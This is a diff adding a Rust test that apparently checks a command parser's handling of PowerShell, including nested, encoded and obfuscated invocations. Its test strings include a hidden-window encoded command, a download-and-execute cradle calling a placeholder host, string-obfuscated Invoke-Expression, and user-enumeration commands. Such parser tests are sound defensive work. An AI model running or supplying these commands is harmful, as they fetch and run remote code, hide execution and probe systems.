@@ -241,3 +241,54 @@ proptest! {
         unfinished(&text);
     }
 }
+
+#[test]
+fn powershell_is_read() {
+    let shown = |text: &str| -> Vec<String> {
+        let line =
+            |via: &[String], line: String| if via.is_empty() { line } else { format!("{}: {line}", via.join(" > ")) };
+        parse(text, Dialect::PowerShell).invocations.iter().map(|i| line(&i.via, i.command_line())).collect()
+    };
+    let rows: &[(&str, &[&str])] = &[
+        ("Get-Process | Stop-Process -Name 'a b' ; dir", &["Get-Process", "Stop-Process -Name a b", "dir"]),
+        ("$x = Get-Content C:\\a.txt", &["Get-Content C:\\a.txt"]),
+        ("& 'C:\\Program Files\\x.exe' -a", &["C:\\Program Files\\x.exe -a"]),
+        ("if ($true) { Remove-Item C:\\x }", &["Remove-Item C:\\x"]),
+        (
+            "powershell -nop -w hidden -EncodedCommand dwBoAG8AYQBtAGkA",
+            &["powershell -nop -w hidden -EncodedCommand dwBoAG8AYQBtAGkA", "powershell -EncodedCommand: whoami"],
+        ),
+        (
+            "powershell.exe -Command \"Stop-Service x; dir\"",
+            &[
+                "powershell.exe -Command Stop-Service x; dir",
+                "powershell -Command: Stop-Service x",
+                "powershell -Command: dir",
+            ],
+        ),
+        ("cmd /c \"whoami & net user\"", &["cmd /c whoami & net user", "cmd /c: whoami", "cmd /c: net user"]),
+        ("iex 'Get-Date'", &["iex Get-Date", "iex: Get-Date"]),
+        ("'Get-Date' | Invoke-Expression", &["Invoke-Expression", "invoke-expression: Get-Date"]),
+        ("iex ('Get-'+'Date')", &["iex Get-Date", "iex: Get-Date"]),
+        ("& (\"{1}{0}\" -f 'ex','i') 'dir'", &["iex dir", "iex: dir"]),
+        (
+            "Start-Process calc.exe -ArgumentList '/a /b' -Wait",
+            &["Start-Process calc.exe -ArgumentList /a /b -Wait", "start-process: calc.exe /a /b"],
+        ),
+        (
+            "iex (New-Object Net.WebClient).DownloadString('http://x/y')",
+            &[
+                "New-Object Net.WebClient",
+                "iex (New-Object Net.WebClient).DownloadString('http://x/y')",
+                "iex: New-Object Net.WebClient",
+            ],
+        ),
+        (
+            "Get-ChildItem | ForEach-Object { Remove-Item $_ }",
+            &["Get-ChildItem", "Remove-Item $_", "ForEach-Object { Remove-Item $_ }"],
+        ),
+    ];
+    for (text, expected) in rows {
+        assert_eq!(shown(text), *expected, "{text}");
+    }
+}
